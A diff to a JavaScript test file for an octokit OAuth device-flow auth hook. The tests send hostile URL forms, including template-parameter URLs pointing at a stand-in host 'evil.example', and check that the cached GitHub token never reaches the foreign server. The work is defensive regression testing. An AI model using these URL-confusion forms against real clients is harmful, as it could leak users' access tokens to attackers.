@@ -68,7 +68,11 @@ function routedFetch(routes, log) {
   };
 }
 
-test("no URL octokit sends to another host gets the token through auth.hook", async (t) => {
+/**
+ * Signs in once through octokit's request (the token is cached in the
+ * store) and answers what the tests need.
+ */
+async function signedIn(t) {
   const github = await recorder(t, "github");
   const foreign = await recorder(t, "foreign");
   const log = [];
@@ -76,41 +80,80 @@ test("no URL octokit sends to another host gets the token through auth.hook", as
   const base = octokitRequest.defaults({ baseUrl: "https://api.github.com", request: { fetch: fetchFn } });
   const store = new MemoryStore();
   const auth = createOAuthDeviceAuth({ clientId: "Iv1.hostile", scopes: ["repo"], request: base, store, onVerification() {} });
-
-  // Sign in once: the token is cached, and every hooked request below uses it.
   assert.equal((await auth({ type: "oauth" })).token, TOKEN);
   assert.equal(Object.keys(store.snapshot()).length, 1);
+  return { github, foreign, log, fetchFn, base, auth };
+}
 
-  const hooked = base.defaults({ request: { hook: auth.hook } });
-  // The control: a route on GitHub's API carries the token.
-  const own = await hooked("GET /user");
-  assert.equal(own.data.server, "github");
-  assert.equal(github.seen.at(-1).headers.authorization, `token ${TOKEN}`);
-
+/**
+ * Sends each request and reports where it went: "foreign", "github", or
+ * "nowhere" with the failure (octokit refuses some forms as invalid URLs).
+ */
+async function sendAll(send, forms, { github, foreign }) {
   const outcomes = [];
-  for (const url of HOSTILE) {
+  for (const form of forms) {
     const before = { github: github.seen.length, foreign: foreign.seen.length };
     let failure = null;
     try {
-      await hooked({ method: "GET", url });
+      await send(form);
     } catch (err) {
       failure = err.code ?? err.name;
     }
     const where = foreign.seen.length > before.foreign ? "foreign" : github.seen.length > before.github ? "github" : "nowhere";
     const leaked = foreign.seen.slice(before.foreign).some((r) => r.headers.authorization !== undefined);
-    outcomes.push({ url, where, leaked, failure });
+    outcomes.push({ form: JSON.stringify(form), where, leaked, failure });
   }
-  const report = outcomes.map((o) => `${JSON.stringify(o.url)} → ${o.where}${o.failure ? ` (${o.failure})` : ""}${o.leaked ? " WITH THE TOKEN" : ""}`).join("\n");
+  const report = outcomes.map((o) => `${o.form} → ${o.where}${o.failure ? ` (${o.failure})` : ""}${o.leaked ? " WITH THE TOKEN" : ""}`).join("\n");
   assert.deepEqual(
     foreign.seen.filter((r) => r.headers.authorization !== undefined).map((r) => r.path),
     [],
     `the foreign server received an authorization header:\n${report}`,
   );
-  // The routing is real: the forms WHATWG reads as evil.example reached it.
-  for (const o of outcomes) {
-    if (o.failure) continue;
-    assert.notEqual(o.where, "nowhere", report);
+  for (const o of outcomes) assert.ok(o.where !== "nowhere" || o.failure, report);
+  assert.ok(outcomes.some((o) => o.where === "foreign"), `no hostile form reached the foreign server, the test proves nothing:\n${report}`);
+  return outcomes;
+}
+
+test("no URL octokit's request sends to another host gets the token through auth.hook", async (t) => {
+  const fx = await signedIn(t);
+  const hooked = fx.base.defaults({ request: { hook: fx.auth.hook } });
+  // The control: a route on GitHub's API carries the token.
+  const own = await hooked("GET /user");
+  assert.equal(own.data.server, "github");
+  assert.equal(fx.github.seen.at(-1).headers.authorization, `token ${TOKEN}`);
+
+  // octokit reads ":name" as a URL template parameter and percent-encodes
+  // backslashes, so some forms only reach fetch through a parameter.
+  const forms = [
+    ...HOSTILE.map((url) => ({ method: "GET", url })),
+    { method: "GET", url: "https:{host}/x", host: "evil.example" },
+    { method: "GET", url: "http:{host}/x", host: "evil.example" },
+    { method: "POST", url: "https:{+host}/x", host: "/evil.example" },
+  ];
+  const outcomes = await sendAll((form) => hooked(form), forms, fx);
+  for (const via of ['"https:{host}/x"', '"http:{host}/x"']) {
+    assert.equal(outcomes.find((o) => o.form.includes(via))?.where, "foreign", `${via} reaches evil.example through fetch`);
   }
-  assert.ok(outcomes.some((o) => o.where === "foreign"), `no hostile form reached the foreign server:\n${report}`);
-  assert.equal(log.filter((u) => u.startsWith("https://github.com/login/device/code")).length, 1, "no new device flow was started");
+  assert.equal(fx.log.filter((u) => u.startsWith("https://github.com/login/device/code")).length, 1, "no new device flow was started");
+});
+
+test("a client passing URLs raw to fetch through auth.hook gets no token for another host either", async (t) => {
+  const fx = await signedIn(t);
+  // An @octokit/request-shaped client that resolves the URL as written
+  // against GitHub's API the way a browser does (WHATWG, no template, no
+  // encoding), so every backslash form arrives raw and the URL parser decides
+  // where it goes.
+  const resolve = (url) => new URL(url, "https://api.github.com/").href;
+  const raw = Object.assign(async (options) => fx.fetchFn(resolve(options.url), { method: options.method, headers: options.headers }), {
+    endpoint: {
+      DEFAULTS: fx.base.endpoint.DEFAULTS,
+      merge: (route, parameters) => ({ headers: {}, ...route, ...parameters }),
+      parse: (options) => ({ method: options.method, url: options.url, headers: options.headers }),
+    },
+  });
+  const outcomes = await sendAll((url) => fx.auth.hook(raw, { method: "GET", url }), HOSTILE, fx);
+  // Every form reached a server here (no template mangling), so each one was judged by the engine.
+  for (const o of outcomes) assert.equal(o.failure, null, `${o.form}: ${o.failure}`);
+  const reachedForeign = outcomes.filter((o) => o.where === "foreign").map((o) => JSON.parse(o.form));
+  assert.deepEqual(reachedForeign, HOSTILE.filter((url) => new URL(url, "https://api.github.com/").hostname === "evil.example"));
 });
